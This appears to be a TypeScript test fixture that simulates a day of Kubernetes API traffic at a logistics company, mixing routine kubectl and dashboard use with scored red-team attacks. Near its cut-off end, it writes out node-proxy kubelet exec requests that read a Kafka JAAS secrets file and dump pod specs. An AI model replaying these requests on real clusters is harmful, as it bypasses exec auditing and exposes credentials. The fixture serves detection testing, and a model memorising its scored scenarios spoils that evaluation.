import { LINUX, MAC, WS_UPGRADE, prng, withAttacks, attackAdder, laptopAttacker, lastRequestOf, type AttackRequest, type DayEvent, type Login } from './workday.js';

/**
 * A tenth replayed day, written as an outside tester would after reading docs/risk.md, from
 * situations days 1–9 do not have: an Amsterdam logistics company (UTC+1 in winter; hours below
 * are UTC) with a Bengaluru team (UTC+5:30). The warm-up day is Wednesday 3 March 2027, the scored
 * day the Thursday after.
 *
 * Routine, as the tools send it:
 * - an engineer with two computers: the work Mac in the office in the morning, the Linux desktop
 *   at home in the afternoon, whose browser still holds the IdP session it signed in with the
 *   evening before (kubelogin there gets a token of that sign-in without a prompt);
 * - Chrome updating itself mid-morning (134 → 135: the agent and its client hints change) and
 *   kubectl upgraded by `brew upgrade` after lunch (v1.32.3 → v1.33.0);
 * - on-call paged at 07:05 (08:05 in Amsterdam) before leaving home: iOS Safari on Grafana and Argo CD's UI over the carrier's
 *   NAT (the public address moves between /24s of its pool every few requests), its own sign-in
 *   on the phone, then the laptop at home, then the office;
 * - two remote engineers on the corporate VPN (GlobalProtect), whose exit is one of four
 *   addresses in four /24s of the company's own /22, picked at each reconnect (morning, after
 *   lunch, after a drop mid-afternoon), not listed as a trusted network;
 * - a release manager rolling one image to six regional production namespaces
 *   (`checkout-prod-euw1` … `checkout-prod-aps1`) within ten minutes: `kubectl set image`
 *   (GET, then a strategic-merge patch of the Deployment) and `kubectl rollout status` (GET,
 *   then a watch of the Deployment by field selector) in each; two regions (the canary) on the
 *   warm-up day;
 * - an incident on a crashing Kafka StatefulSet in `streaming-prod`, worked by two SREs at once:
 *   `kubectl logs -l app=ingest --prefix -f --max-log-requests=20` (a list, then twenty log
 *   streams opened within half a second), a shell in three brokers each, a broker's pod deleted;
 * - `kubectl run tmp --rm -it --image=busybox` in a dev namespace (the Pod, a watch, the attach
 *   over a WebSocket, the delete), krew plugins: kubectl-tree (its own client-go agent, discovery,
 *   then a list of every namespaced kind at once), kubectl-neat (`kubectl neat get -- deploy app`:
 *   kubectl's own GET, its agent);
 * - Telepresence: `telepresence connect` (its own client-go agent: the traffic-manager's Service
 *   and pod in `ambassador`, a port-forward to it) and an intercept (the traffic-manager, inside
 *   the cluster, injects its agent: the gateway sees only the client's reads); then Tilt's dev
 *   loop (server-side apply with fieldManager=tilt, a pod watch, logs, a port-forward);
 * - a laptop that slept overnight, opened next morning in a café with yesterday's sign-in
 *   (kubelogin refreshes the token, auth_time unchanged), then carried to the office;
 * - a Bengaluru team (03:30–12:30 UTC, one at the office, one on home broadband) and an intern
 *   with no second factor yet (aal1 only) reading their dev namespaces;
 * - a platform engineer reading kube-system, Gatekeeper and node state; CI deploying to staging.
 *
 * The attacks, each from where an outside red team would stand: the kubelet's exec through the
 * API server's node proxy (`nodes/N/proxy/exec/…`, `…/run/…`, the kubelet's port in the node's
 * name, its `/pods`); `kubectl debug node/N --profile=sysadmin` into the victim's dev namespace; an
 * ephemeral container written with PUT into a production Pod; EKS's aws-auth mapping a role to
 * system:masters; Gatekeeper's webhook deleted, and its controller scaled to zero; an EndpointSlice
 * hijacking a production Service; a Service switched to ExternalName and LoadBalancer; a CronJob
 * planted in production; a PodDisruptionBudget deleted then every pod evicted; an insider scaling
 * every region to zero; a colleague on the same VPN with a copied token, slowly; the intern's
 * phished password; a token used from the Bengaluru engineer's ISP after their day.
 */

export const D10_DAY0 = Date.UTC(2027, 2, 3, 0, 0, 0); // Wednesday 3 March 2027 (UTC): warm-up, not scored
export const D10_DAY1 = Date.UTC(2027, 2, 4, 0, 0, 0); // Thursday: the scored day
const H = 3_600_000;
const M = 60_000;
const S = 1000;

const KUBECTL = (v: string, os: string) => `kubectl/${v} (${os}) kubernetes/${v === 'v1.33.0' ? '60a317e' : '32cc146'}`;
/** krew's kubectl-tree and Telepresence's and Tilt's clients: client-go's default agent, their builds stamp no client-go version. */
const CLIENT_GO = (bin: string, os: string) => `${bin}/v0.0.0 (${os}) kubernetes/$Format`;
const CHROME = (major: number, os: string) => `Mozilla/5.0 (${os}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${major}.0.0.0 Safari/537.36`;
const CH_UA: Record<number, string> = {
  134: '"Chromium";v="134", "Not:A-Brand";v="24", "Google Chrome";v="134"',
  135: '"Google Chrome";v="135", "Not-A.Brand";v="8", "Chromium";v="135"',
};
const PLATFORM: Record<string, string> = { [LINUX]: '"Linux"', [MAC]: '"macOS"' };
const IOS_SAFARI = 'Mozilla/5.0 (iPhone; CPU iPhone OS 18_3_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 Mobile/15E148 Safari/604.1';

const MERGE = { 'content-type': 'application/merge-patch+json' };
const SMP = { 'content-type': 'application/strategic-merge-patch+json' };
const SSA = { 'content-type': 'application/apply-patch+yaml' };
const JSON_CT = { 'content-type': 'application/json' };
const WS_PF = { connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-protocol': 'SPDY/3.1+portforward.k8s.io' };

const TEAMS = ['checkout', 'payments', 'streaming', 'search'] as const;
/** The release manager's regions: one production namespace each. */
const REGIONS = ['euw1', 'euc1', 'use1', 'usw2', 'apse1', 'aps1'] as const;

type Where = 'office' | 'home' | 'vpn' | 'cell' | 'cafe' | 'blr-office' | 'blr-home';
type Device = 'laptop' | 'desktop' | 'phone';
type Kind = 'twobox' | 'updater' | 'oncall' | 'vpn' | 'release' | 'sre' | 'devrun' | 'telepresence' | 'sleeper' | 'india' | 'intern' | 'platform' | 'dev';
/** [from hour, to hour, where, device] in UTC. */
type Sitting = [number, number, Where, Device?];

interface Person {
  name: string;
  idx: number;
  svc: string;
  kind: Kind;
  os: string;
  kubectlOs: string;
  warm: Sitting[];
  scored: Sitting[];
  lunch: number;
}

function staff(rand: () => number): Person[] {
  const out: Person[] = [];
  const add = (name: string, kind: Kind, svc: string, warm: Sitting[], scored: Sitting[], os = MAC, lunch = 11.3) => {
    const j = () => (rand() - 0.5) * 0.3;
    out.push({
      name: `d10-${name}@example.nl`,
      idx: out.length,
      svc,
      kind,
      os,
      kubectlOs: os === MAC ? 'darwin/arm64' : 'linux/amd64',
      warm: warm.map(([a, b, w, d]) => [a + j(), b + j(), w, d]),
      scored: scored.map(([a, b, w, d]) => [a + j(), b + j(), w, d]),
      lunch: lunch + rand() * 0.4,
    });
  };
  add('twobox', 'twobox', 'checkout', [[7.8, 16.2, 'office'], [19.5, 20.4, 'home', 'desktop']], [[7.6, 11.8, 'office'], [13, 16.8, 'home', 'desktop']]);
  add('updater', 'updater', 'payments', [[8, 16.5, 'home']], [[8, 16.5, 'home']]);
  add('oncall', 'oncall', 'checkout', [[8, 16.5, 'office'], [19.2, 19.5, 'cell', 'phone']], [[7.08, 7.45, 'cell', 'phone'], [7.6, 11.2, 'home'], [12.5, 16.5, 'office']]);
  add('vpn-0', 'vpn', 'search', [[7.5, 11.2], [12, 14.6], [14.7, 16]].map(([a, b]) => [a!, b!, 'vpn'] as Sitting), [[7.4, 11.3], [12.1, 14.4], [14.5, 16.1]].map(([a, b]) => [a!, b!, 'vpn'] as Sitting), LINUX);
  add('vpn-1', 'vpn', 'payments', [[8.2, 11.5], [12.3, 16.7]].map(([a, b]) => [a!, b!, 'vpn'] as Sitting), [[8.1, 11.6], [12.4, 15.1], [15.2, 16.8]].map(([a, b]) => [a!, b!, 'vpn'] as Sitting));
  add('release', 'release', 'checkout', [[7.9, 16.4, 'office']], [[7.9, 16.6, 'office']]);
  add('sre-a', 'sre', 'streaming', [[7.5, 16, 'office']], [[7.5, 16, 'office']], LINUX);
  add('sre-b', 'sre', 'streaming', [[8.5, 17, 'home']], [[8.5, 17, 'home']]);
  add('devrun', 'devrun', 'search', [[8.2, 16.6, 'office']], [[8.2, 16.6, 'office']], LINUX);
  add('telepresence', 'telepresence', 'payments', [[8.4, 16.8, 'home']], [[8.4, 16.8, 'home']]);
  add('sleeper', 'sleeper', 'streaming', [[8, 16.5, 'office']], [[7.7, 8.5, 'cafe'], [8.9, 16.5, 'office']]);
  add('india-0', 'india', 'search', [[3.5, 12.5, 'blr-office']], [[3.5, 12.5, 'blr-office']], LINUX, 7.5);
  add('india-1', 'india', 'streaming', [[3.8, 12.8, 'blr-home']], [[3.8, 12.8, 'blr-home']], MAC, 7.7);
  add('intern', 'intern', 'search', [[4, 12, 'blr-office']], [[4, 12, 'blr-office']], LINUX, 7.6);
  add('platform', 'platform', 'platform', [[7.7, 16.3, 'office']], [[7.7, 16.3, 'office']]);
  add('dev-0', 'dev', 'payments', [[8.1, 16.7, 'office']], [[8.1, 16.7, 'office']], LINUX);
  return out;
}

/** The company's VPN: four exits in four /24s of its own /22, one picked at each connect. */
const VPN_EXITS = ['185.46.212.10', '185.46.213.10', '185.46.214.10', '185.46.215.10'];
/** The carrier's NAT pool (a /16): the phone's public address moves between /24s every few requests. */
const carrierAt = (n: number) => `188.207.${(n * 29 + 40) % 250}.${(n * 53) % 240 + 10}`;

function addressOf(p: Person, where: Where, day: number, sitting: number, n: number): string {
  const i = p.idx;
  switch (where) {
    case 'office':
      return `10.52.${i % 4}.${40 + i}`;
    case 'blr-office':
      return `10.61.2.${30 + i}`;
    case 'home':
      // Dutch broadband: each their own fixed address.
      return `${[84, 77, 31, 94][i % 4]}.${160 + i}.${(i * 23) % 200 + 20}.${50 + i}`;
    case 'blr-home':
      // Airtel broadband, Bengaluru.
      return `122.171.${20 + i}.${140 + i}`;
    case 'cafe':
      return '145.131.77.9';
    case 'cell':
      return carrierAt(n + i);
    case 'vpn':
      return VPN_EXITS[(i * 7 + sitting * 3 + (day === D10_DAY1 ? 1 : 0) * 5) % 4]!;
  }
}

type Req = { method: string; path: string; host?: string; headers?: Record<string, string>; body?: string; ua?: string; browser?: boolean };

const pod = (app: string, rand: () => number) => `${app}-6f8c9d-${['k2x7p', 'q9m4z', 'w3r8t', 'b5n2c'][Math.floor(rand() * 4)]}`;
const regionNs = (r: string) => `checkout-prod-${r}`;

/** A plain day's kubectl work in the team's namespaces. */
function appTask(rand: () => number, team: string, prodNs = `${team}-prod`): Req[] {
  const r = rand();
  const ns = r < 0.5 ? `${team}-dev` : r < 0.8 ? `${team}-staging` : prodNs;
  const po = pod(`${team}-api`, rand);
  const k = rand();
  if (k < 0.3) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500` }];
  if (k < 0.45) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}/log?container=api&tailLines=200` }];
  if (k < 0.55) return [{ method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments?limit=500` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/events?limit=500` }];
  if (k < 0.6) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/secrets/${team}-db` }];
  if (k < 0.64) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}/exec?command=sh&container=api&stdin=true&stdout=true&tty=true`, headers: WS_UPGRADE }];
  if (k < 0.68) return [{ method: 'PATCH', path: `/apis/apps/v1/namespaces/${ns}/deployments/${team}-api?fieldManager=kubectl-rollout`, headers: SMP, body: JSON.stringify({ spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': '2027-03-04T10:00:00Z' } } } } }) }];
  if (k < 0.8) return [{ method: 'GET', path: '/api?timeout=32s' }, { method: 'GET', path: '/apis?timeout=32s' }, { method: 'GET', path: `/api/v1/namespaces/${ns}/services?limit=500` }];
  return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/configmaps?limit=500` }];
}

/** The browser: Grafana's dashboards (and their queries), Argo CD's UI. */
function browserTask(rand: () => number, team: string): Req[] {
  const k = rand();
  if (k < 0.5)
    return [
      { method: 'GET', host: 'grafana.localhost', path: `/d/k8s-workloads/kubernetes-workloads?orgId=1&var-namespace=${team}-prod` },
      { method: 'POST', host: 'grafana.localhost', path: '/api/ds/query?ds_type=prometheus', headers: JSON_CT, body: JSON.stringify({ queries: [{ refId: 'A', expr: `sum(rate(container_cpu_usage_seconds_total{namespace="${team}-prod"}[5m]))` }], from: 'now-1h', to: 'now' }) },
    ];
  return [
    { method: 'GET', host: 'argocd.localhost', path: `/api/v1/applications?projects=${team}` },
    { method: 'GET', host: 'argocd.localhost', path: `/api/v1/applications/${team}-prod/resource-tree?appNamespace=argocd` },
  ];
}

/** `kubectl set image` then `kubectl rollout status` in one region. */
function rollout(ns: string, tag: string): Req[] {
  const dep = 'checkout-api';
  return [
    { method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments/${dep}` },
    { method: 'PATCH', path: `/apis/apps/v1/namespaces/${ns}/deployments/${dep}?fieldManager=kubectl-set`, headers: SMP, body: JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'api', image: `ghcr.io/example-nl/checkout-api:${tag}` }] } } } }) },
    { method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments/${dep}` },
    { method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments?fieldSelector=metadata.name%3D${dep}&resourceVersion=0&watch=true` },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods?labelSelector=app%3D${dep}` },
  ];
}

/** `kubectl run tmp --rm -it --image=busybox -n <ns> -- sh`. */
function runTmp(ns: string): Req[] {
  const body = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'tmp', namespace: ns, labels: { run: 'tmp' } }, spec: { containers: [{ name: 'tmp', image: 'busybox', args: ['sh'], stdin: true, stdinOnce: true, tty: true }], restartPolicy: 'Never' } };
  return [
    { method: 'POST', path: `/api/v1/namespaces/${ns}/pods?fieldManager=kubectl-run`, headers: JSON_CT, body: JSON.stringify(body) },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods?fieldSelector=metadata.name%3Dtmp&resourceVersion=0&watch=true` },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/tmp` },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/tmp/attach?container=tmp&stdin=true&stdout=true&tty=true`, headers: WS_UPGRADE },
    { method: 'DELETE', path: `/api/v1/namespaces/${ns}/pods/tmp`, headers: JSON_CT, body: '{"kind":"DeleteOptions","apiVersion":"v1"}' },
  ];
}

/** `kubectl tree deployment <d>`: discovery, then every namespaced kind listed at once (kubectl-tree's dynamic client). */
function kubectlTree(ns: string, os: string): Req[] {
  const kinds = ['/api/v1/{}/pods', '/api/v1/{}/services', '/api/v1/{}/configmaps', '/api/v1/{}/endpoints', '/api/v1/{}/events', '/api/v1/{}/serviceaccounts', '/api/v1/{}/persistentvolumeclaims', '/apis/apps/v1/{}/deployments', '/apis/apps/v1/{}/replicasets', '/apis/apps/v1/{}/statefulsets', '/apis/batch/v1/{}/jobs', '/apis/batch/v1/{}/cronjobs', '/apis/discovery.k8s.io/v1/{}/endpointslices', '/apis/networking.k8s.io/v1/{}/ingresses', '/apis/autoscaling/v2/{}/horizontalpodautoscalers', '/apis/policy/v1/{}/poddisruptionbudgets', '/apis/coordination.k8s.io/v1/{}/leases'];
  return [
    { method: 'GET', path: '/api?timeout=32s' },
    { method: 'GET', path: '/apis?timeout=32s' },
    { method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments/app` },
    ...kinds.map((k) => ({ method: 'GET', path: k.replace('{}', `namespaces/${ns}`) })),
  ].map((q) => ({ ...q, ua: CLIENT_GO('kubectl-tree', os) }));
}

/** `telepresence connect`: the traffic-manager's Service and pod in `ambassador`, a port-forward to its gRPC port. */
function telepresenceConnect(os: string, ns: string): Req[] {
  const tm = 'traffic-manager-7d5c9f-l8v2q';
  return [
    { method: 'GET', path: '/version?timeout=32s' },
    { method: 'GET', path: '/api/v1/namespaces' },
    { method: 'GET', path: '/api/v1/namespaces/ambassador/services/traffic-manager' },
    { method: 'GET', path: '/api/v1/namespaces/ambassador/pods?labelSelector=app%3Dtraffic-manager' },
    { method: 'GET', path: `/api/v1/namespaces/ambassador/pods/${tm}/portforward`, headers: WS_PF },
    // `telepresence intercept app`: the workload it names, then its pods (the agent is injected by the traffic-manager, inside the cluster).
    { method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments/app` },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods?labelSelector=app%3Dapp` },
  ].map((q) => ({ ...q, ua: CLIENT_GO('telepresence', os) }));
}

/** One Tilt update: server-side apply of the Deployment (new image), its pods watched, the log, a port-forward. */
function tiltUpdate(ns: string, os: string, build: number, po: string): Req[] {
  const ua = CLIENT_GO('tilt', os);
  return [
    { method: 'PATCH', path: `/apis/apps/v1/namespaces/${ns}/deployments/app?fieldManager=tilt&force=true`, headers: SSA, body: JSON.stringify({ apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'app', namespace: ns, labels: { 'app.kubernetes.io/managed-by': 'tilt' } }, spec: { selector: { matchLabels: { app: 'app' } }, template: { metadata: { labels: { app: 'app' } }, spec: { containers: [{ name: 'app', image: `localhost:5005/app:tilt-${build.toString(16)}c0ffee` }] } } } }), ua },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods?labelSelector=app%3Dapp&watch=true`, ua },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}/log?container=app&follow=true`, ua },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}/portforward`, headers: WS_PF, ua },
  ];
}

export function workday10(seed = 81): DayEvent[] {
  const rand = prng(seed * 2_654_435_761 + 10);
  const people = staff(rand);
  const events: DayEvent[] = [];
  /** Each device's sign-in, by person and device: the warm-up day's stays in the browser or kubelogin's cache. */
  const logins = new Map<string, Login>();
  for (const day of [D10_DAY0, D10_DAY1]) {
    const scored = day === D10_DAY1;
    const at = (h: number) => day + h * H;
    for (const p of people) {
      const mine: DayEvent[] = [];
      const sittings = scored ? p.scored : p.warm;
      const acr = p.kind === 'intern' ? 'urn:stepgate:aal1' : 'urn:stepgate:aal2';
      sittings.forEach(([from, to, where, device = 'laptop'], si) => {
        const key = `${p.name}:${device}`;
        // A sign-in at the day's first sitting of each device, 40 s before its first request;
        // except the two that carry yesterday's: the sleeper's laptop (kubelogin's refresh token,
        // all day unless a step-up asks for a new sign-in) and the desktop at home (the browser's
        // IdP session of last night).
        const keep = scored && (p.kind === 'sleeper' || device === 'desktop');
        let login = logins.get(key);
        if (!keep && (login === undefined || !login.sid.endsWith(`:${day}`)))
          login = { sub: p.name, sid: `${p.name}:${device}:${day}`, authTime: Math.floor((at(from) - 40 * S) / 1000), acr };
        if (keep && login === undefined) throw new Error(`${p.name}: no sign-in of yesterday on ${device}`);
        logins.set(key, login!);
        const l = login!;
        let n = 0;
        const kubectlAt = (t: number) => {
          // brew upgrade kubectl at 13:30 on the scored day.
          const v = p.kind === 'updater' && scored && t >= at(13.5) ? 'v1.33.0' : p.kind === 'india' || p.kind === 'intern' ? 'v1.31.6' : 'v1.32.3';
          return v === 'v1.31.6' ? `kubectl/v1.31.6 (${device === 'desktop' ? 'linux/amd64' : p.kubectlOs}) kubernetes/6b35607` : KUBECTL(v, device === 'desktop' ? 'linux/amd64' : p.kubectlOs);
        };
        const os = device === 'desktop' ? LINUX : p.os;
        const push = (t: number, q: Req) => {
          const browser = q.browser === true || q.host !== undefined;
          // Chrome relaunches into 135 at 10:40 on the scored day (134 before; the desktop at home updated already).
          const major = scored && (t >= at(10.67) || device === 'desktop') ? 135 : 134;
          const ua = q.ua ?? (browser ? (device === 'phone' ? IOS_SAFARI : CHROME(major, os)) : kubectlAt(t));
          const hints = browser && device !== 'phone' ? { 'sec-ch-ua': CH_UA[major]!, 'sec-ch-ua-mobile': '?0', 'sec-ch-ua-platform': PLATFORM[os]! } : undefined;
          const headers = hints || q.headers ? { ...hints, ...q.headers } : undefined;
          mine.push({
            at: Math.round(t),
            actor: p.name,
            scored,
            ip: addressOf(p, where, day, si, n++),
            ua,
            login: l,
            method: q.method,
            path: q.path,
            ...(headers ? { headers } : {}),
            ...(q.host ? { host: q.host } : {}),
            ...(q.body !== undefined ? { body: q.body } : {}),
          });
        };
        const seq = (t: number, reqs: Req[], gapMs: number) => reqs.forEach((q, k) => push(t + k * gapMs, q));
        // The phone: dashboards only.
        if (device === 'phone') {
          for (let t = at(from); t < at(to); t += 40 * S + rand() * 80 * S) {
            const team = p.svc;
            const reqs: Req[] = rand() < 0.5
              ? [{ method: 'GET', host: 'grafana.localhost', path: `/d/k8s-workloads/kubernetes-workloads?orgId=1&var-namespace=${regionNs('euw1')}` }, { method: 'POST', host: 'grafana.localhost', path: '/api/ds/query?ds_type=prometheus', headers: JSON_CT, body: JSON.stringify({ queries: [{ refId: 'A', expr: 'sum(rate(http_requests_total{code=~"5.."}[5m])) by (namespace)' }], from: 'now-3h', to: 'now' }) }]
              : [{ method: 'GET', host: 'argocd.localhost', path: `/api/v1/applications?projects=${team}` }, { method: 'GET', host: 'argocd.localhost', path: `/api/v1/applications/${team}-euw1/resource-tree?appNamespace=argocd` }, { method: 'GET', host: 'argocd.localhost', path: `/api/v1/applications/${team}-euw1/events?resourceNamespace=${regionNs('euw1')}&resourceName=checkout-api&resourceUID=2c1f0d7e` }];
            seq(t, reqs, 900);
          }
          return;
        }
        let t = at(from);
        while (t < at(to)) {
          const h = (t - day) / H;
          if (h >= p.lunch && h < p.lunch + 0.7 && to > p.lunch + 0.7) {
            t = at(p.lunch + 0.7) + S;
            continue;
          }
          let reqs: Req[];
          if (p.kind !== 'intern' && rand() < (p.kind === 'updater' ? 0.3 : 0.1)) reqs = browserTask(rand, p.svc).map((q) => ({ ...q, browser: true }));
          else if (p.kind === 'intern') {
            const k = rand();
            const ns = k < 0.6 ? 'dev-intern' : 'search-dev';
            reqs = k < 0.4 ? [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500` }] : k < 0.7 ? [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${pod('indexer', rand)}/log?container=indexer&tailLines=100` }] : k < 0.85 ? [{ method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments/indexer` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/events?fieldSelector=involvedObject.name%3Dindexer` }] : [{ method: 'GET', path: '/api?timeout=32s' }, { method: 'GET', path: '/apis?timeout=32s' }, { method: 'GET', path: `/api/v1/namespaces/${ns}/configmaps?limit=500` }];
          } else if (p.kind === 'platform') {
            const k = rand();
            reqs =
              k < 0.3 ? [{ method: 'GET', path: '/api/v1/nodes?limit=500' }, { method: 'GET', path: '/apis/metrics.k8s.io/v1beta1/nodes' }]
              : k < 0.5 ? [{ method: 'GET', path: '/api/v1/namespaces/kube-system/pods?limit=500' }]
              : k < 0.65 ? [{ method: 'GET', path: '/api/v1/namespaces/gatekeeper-system/pods?limit=500' }, { method: 'GET', path: '/apis/constraints.gatekeeper.sh/v1beta1/k8sallowedrepos' }]
              : k < 0.8 ? [{ method: 'GET', path: '/api/v1/namespaces/kube-system/configmaps/aws-auth' }]
              : k < 0.9 ? [{ method: 'GET', path: '/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations' }]
              : [{ method: 'GET', path: '/api/v1/namespaces?limit=500' }];
          } else if (p.kind === 'release') {
            const r = REGIONS[Math.floor(rand() * REGIONS.length)]!;
            reqs = rand() < 0.6 ? [{ method: 'GET', path: `/api/v1/namespaces/${regionNs(r)}/pods?limit=500` }, { method: 'GET', path: `/apis/apps/v1/namespaces/${regionNs(r)}/deployments?limit=500` }] : appTask(rand, 'checkout', regionNs(r));
          } else if (p.kind === 'sre') {
            const team = TEAMS[Math.floor(rand() * TEAMS.length)]!;
            reqs = appTask(rand, team, team === 'checkout' ? regionNs('euw1') : `${team}-prod`);
          } else if (p.kind === 'oncall' || p.kind === 'twobox') reqs = appTask(rand, p.svc, regionNs(REGIONS[Math.floor(rand() * 2)]!));
          else reqs = appTask(rand, p.svc);
          const gap = 500 + rand() * 1500;
          reqs.forEach((q, k) => push(t + k * gap, q));
          t += 5 * M + rand() * 10 * M;
        }
        // Replace the routine in [t, t + clearMin) with a run of requests.
        const run = (tt: number, reqs: Req[], gapMs: number, clearMin: number) => {
          for (let k = mine.length - 1; k >= 0; k--) if (mine[k]!.at >= tt - 2 * M && mine[k]!.at <= tt + clearMin * M) mine.splice(k, 1);
          seq(tt, reqs, gapMs);
        };
        if (p.kind === 'release' && si === 0) {
          // The release: six regions within ten minutes at 14:00 (the canary's two on the warm-up day).
          const t0 = at(14 + rand() * 0.2);
          const regions = scored ? REGIONS : REGIONS.slice(0, 2);
          const reqs = regions.flatMap((r) => rollout(regionNs(r), scored ? 'v2.41.0' : 'v2.40.3'));
          run(t0, reqs, 18 * S, 12);
        }
        if (p.kind === 'sre' && scored) {
          // 10:20: ingest is crash-looping on Kafka. Both SREs follow ingest's logs, then a shell in brokers.
          const ns = 'streaming-prod';
          const t0 = at(10.33) + (p.name.includes('sre-b') ? 70 * S : 0);
          const logs: Req[] = [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?labelSelector=app%3Dingest` }];
          for (let k = 0; k < 20; k++) logs.push({ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/ingest-5c7b9d-${(k * 7919).toString(36).padStart(5, 'x').slice(-5)}/log?container=ingest&follow=true&prefix=true` });
          run(t0, logs, 25, 25);
          const brokers = p.name.includes('sre-a') ? [0, 1, 2] : [2, 1, 0];
          const shells: Req[] = [{ method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/statefulsets/kafka` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/events?fieldSelector=involvedObject.name%3Dkafka-2` }];
          for (const b of brokers)
            shells.push({ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/kafka-${b}` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/kafka-${b}/exec?command=bash&container=kafka&stdin=true&stdout=true&tty=true`, headers: WS_UPGRADE });
          shells.forEach((q, k) => push(t0 + 3 * M + k * 35 * S, q));
          if (p.name.includes('sre-b')) push(t0 + 12 * M, { method: 'DELETE', path: `/api/v1/namespaces/${ns}/pods/kafka-2`, headers: JSON_CT, body: '{"kind":"DeleteOptions","apiVersion":"v1"}' });
          push(t0 + 14 * M, { method: 'GET', path: `/api/v1/namespaces/${ns}/persistentvolumeclaims?labelSelector=app%3Dkafka` });
        }
        if (p.kind === 'devrun' && si === 0) {
          const ns = 'dev-devrun';
          run(at(9.6 + rand() * 0.3), runTmp(ns), 1500, 3);
          run(at(13.8 + rand() * 0.5), [...kubectlTree(ns, p.kubectlOs), { method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments/app` }], 40, 2);
          if (scored) run(at(15.1), runTmp('search-dev'), 1500, 3);
        }
        if (p.kind === 'telepresence' && si === 0) {
          const ns = 'dev-telepresence';
          run(at(9.3), telepresenceConnect(p.kubectlOs, ns), 300, 2);
          // Tilt's loop from 14:00 for 40 minutes (20 on the warm-up day).
          let tt = at(14);
          let build = 1;
          for (let k = mine.length - 1; k >= 0; k--) if (mine[k]!.at >= tt - M && mine[k]!.at <= tt + 42 * M) mine.splice(k, 1);
          while (tt < at(scored ? 14.67 : 14.33)) {
            seq(tt, tiltUpdate(ns, p.kubectlOs, build++, pod('app', rand)), 2 * S);
            tt += 60 * S + rand() * 120 * S;
          }
        }
      });
      mine.sort((a, b) => a.at - b.at);
      events.push(...mine);
    }
    // CI: a GitHub Actions job every 20 minutes from the self-hosted runners, its own token each, deploying to staging.
    for (let j = 0; j < 27; j++) {
      const t = at(7 + j / 3);
      const login: Login = { sub: 'ci-deployer@example.nl', sid: `ci10:${day}:${j}`, authTime: Math.floor(t / 1000), acr: 'urn:stepgate:aal1' };
      const ip = `10.30.${j % 4}.${20 + (j % 30)}`;
      const ua = KUBECTL('v1.32.3', 'linux/amd64');
      const ns = `${TEAMS[j % 4]}-staging`;
      events.push({ at: t, actor: 'ci', scored, ip, ua, login, method: 'PATCH', path: `/apis/apps/v1/namespaces/${ns}/deployments/${TEAMS[j % 4]}-api?fieldManager=kubectl-set`, headers: SMP, body: JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'api', image: `ghcr.io/example-nl/${TEAMS[j % 4]}-api:sha-${(j * 104729).toString(16)}` }] } } } }) });
      events.push({ at: t + 4000, actor: 'ci', scored, ip, ua, login, method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments/${TEAMS[j % 4]}-api` });
    }
  }
  events.sort((a, b) => a.at - b.at);
  return withAttacks(events, attacks10(people, events));
}

function attacks10(people: Person[], routine: DayEvent[]): DayEvent[] {
  const out: DayEvent[] = [];
  const by = (name: string) => people.find((p) => p.name === `d10-${name}@example.nl`)!;
  const kubectl = (x: DayEvent) => x.ua.startsWith('kubectl/');
  const last = (p: Person, t: number): DayEvent => lastRequestOf(routine, p.name, t, kubectl);
  const add = attackAdder(out);
  const T = (h: number) => D10_DAY1 + h * H;
  const onLaptop = laptopAttacker(add, routine, D10_DAY1, kubectl);
  const NODE = 'ip-10-12-3-44.eu-west-1.compute.internal';
  const sreA = by('sre-a');
  const sreB = by('sre-b');

  // 1. The kubelet's exec through the API server's node proxy: no `pods/exec` in the request line.
  onLaptop("kubelet exec through the node proxy (SRE laptop)", sreA, 11.2, [
    ['GET', '/api/v1/nodes?labelSelector=node.kubernetes.io%2Finstance-type%3Dm7i.2xlarge', false],
    ['POST', `/api/v1/nodes/${NODE}/proxy/exec/streaming-prod/kafka-0/kafka?command=sh&command=-c&command=cat%20/etc/kafka/secrets/jaas.conf&output=1&error=1`, true],
  ], 6000);
  // …its `run` handler with the kubelet's port in the node's name, and its `/pods` (every pod's spec, env included).
  onLaptop("kubelet run with the port in the node's name (SRE laptop)", sreB, 13.4, [
    ['GET', `/api/v1/nodes/${NODE}:10250/proxy/pods`, true],
